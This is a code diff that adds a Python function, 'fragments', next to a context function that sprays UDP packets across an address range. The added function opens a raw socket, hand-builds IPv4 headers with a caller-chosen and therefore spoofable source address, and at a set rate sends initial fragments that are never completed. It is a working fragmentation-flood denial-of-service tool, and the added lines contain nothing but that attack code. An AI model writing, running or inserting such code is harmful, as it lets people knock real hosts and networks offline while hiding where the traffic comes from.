@@ -112,3 +112,13 @@ def neighbours(prefix, count):
                 one.sendto(b"x", (f"{prefix}{1 + i // 250}.{1 + i % 250}", 9))
             except OSError:
                 pass
+
+
+def fragments(source, address, per_second):
+    """First fragments whose rest never comes, each of a packet of its own."""
+    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    number = 0
+    for _ in every(1 / float(per_second)):
+        number += 1
+        header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 1420, number & 0xFFFF, 0x2000, 64, socket.IPPROTO_UDP, 0, socket.inet_aton(source), socket.inet_aton(address))
+        raw.sendto(header + b"x" * 1400, (address, 0))
